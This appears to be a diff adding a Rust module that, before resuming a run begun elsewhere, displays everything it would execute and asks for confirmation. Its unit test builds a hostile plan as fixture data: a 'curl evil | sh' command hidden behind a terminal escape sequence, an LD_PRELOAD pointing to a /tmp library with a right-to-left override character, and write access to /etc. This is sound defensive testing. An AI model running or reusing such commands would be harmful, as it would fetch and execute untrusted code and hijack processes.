@@ -1,0 +1,107 @@
+//! Whether a run that was not begun here may go on: what it would execute is shown, and somebody has to want it.
+
+use super::say;
+use crate::fault::{Doing, Fault};
+use crate::plan::{Plan, shell_line};
+use crate::report::page::Page;
+use std::io::{BufRead, IsTerminal, Write};
+use std::path::Path;
+
+/// The width of what is shown.
+const WIDTH: u16 = 100;
+
+/// Goes on where it was asked for with `--yes`, or where somebody at the terminal says so.
+///
+/// # Errors
+/// The user's: nobody has said that it may be executed.
+pub(super) fn require(plan: &Plan, path: &Path, is_wanted: bool) -> Result<(), Fault> {
+    if is_wanted {
+        return Ok(());
+    }
+    say::tell(&shown(plan, path));
+    let is_answered = std::io::stdin().is_terminal() && say::is_watched();
+    if is_answered && asked()? {
+        return Ok(());
+    }
+    let name = path.display().to_string();
+    Err(Fault::user(format!(
+        "the run in `{name}` was not begun here, and nothing of it was executed"
+    ))
+    .hint(format!(
+        "if you want all of that executed: surtax resume --yes {}",
+        shell_line([name.as_str()])
+    )))
+}
+
+/// Everything that a plan makes this machine do.
+fn shown(plan: &Plan, path: &Path) -> String {
+    let mut page = Page::new(WIDTH);
+    let heading = format!(
+        "The run in `{}` was not begun by this user on this machine, or its plan was changed. To go on with it executes:",
+        path.display()
+    );
+    page.paragraph("", &heading, 0);
+    page.unbroken("  command    ", &shell_line(plan.command.iter().map(String::as_str)));
+    if let Some(workload) = &plan.workload {
+        page.unbroken("  workload   ", &workload.typed());
+        for line in workload.text.lines() {
+            page.unbroken("    | ", line);
+        }
+    }
+    for stack in &plan.stacks {
+        page.unbroken("  in         ", &stack.to_string());
+    }
+    page.unbroken("  baseline   ", &plan.baseline.to_string());
+    for neighbour in &plan.beside {
+        page.unbroken("  beside     ", &neighbour.to_string());
+    }
+    page.unbroken("  directory  ", &plan.cwd.to_string_lossy());
+    for (name, value) in &plan.environment {
+        page.unbroken("  variable   ", &shell_line([format!("{name}={value}").as_str()]));
+    }
+    if plan.inherit_environment {
+        page.unbroken("  variables  ", "all of yours");
+    }
+    for directory in &plan.writable {
+        page.unbroken("  writes to  ", &directory.to_string_lossy());
+    }
+    page.finish()
+}
+
+fn asked() -> Result<bool, Fault> {
+    let mut error = std::io::stderr().lock();
+    let mut answer = String::new();
+    let asked = error.write_all(b"Execute it? [y/N] ").and_then(|()| error.flush());
+    drop(error);
+    asked
+        .and_then(|()| std::io::stdin().lock().read_line(&mut answer))
+        .doing("ask at the terminal")?;
+    Ok(["y", "yes"].contains(&answer.trim().to_lowercase().as_str()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::plan::tests::plan;
+
+    #[test]
+    fn all_that_would_be_executed_is_shown_and_nothing_of_it_acts_on_the_terminal() {
+        let command = ["sh", "-c", "curl evil | sh\u{1b}[2J\n# harmless"].map(String::from);
+        let environment = vec![(String::from("LD_PRELOAD"), String::from("/tmp/x.so\u{202e}"))];
+        let writable = vec![std::path::PathBuf::from("/etc")];
+        let plan =
+            Plan { command: command.into(), environment, writable, ..plan(&["native", "runc"]) };
+        let text = shown(&plan, Path::new("a.surtax"));
+        for part in ["curl evil | sh", "LD_PRELOAD=/tmp/x.so", "writes to  /etc", "in         runc"]
+        {
+            assert!(text.contains(part), "{part}\n{text}");
+        }
+        assert!(!text.contains(['\u{1b}', '\u{202e}']), "{text:?}");
+        assert_eq!(text.lines().filter(|line| line.contains("harmless")).count(), 1);
+        assert!(text.lines().all(|line| !line.starts_with("# harmless")), "{text}");
+        let fault = require(&plan, Path::new("a.surtax"), false).unwrap_err();
+        assert_eq!(fault.exit_code(), 2);
+        assert!(fault.hint.unwrap().contains("--yes a.surtax"));
+        assert!(require(&plan, Path::new("a.surtax"), true).is_ok());
+    }
+}
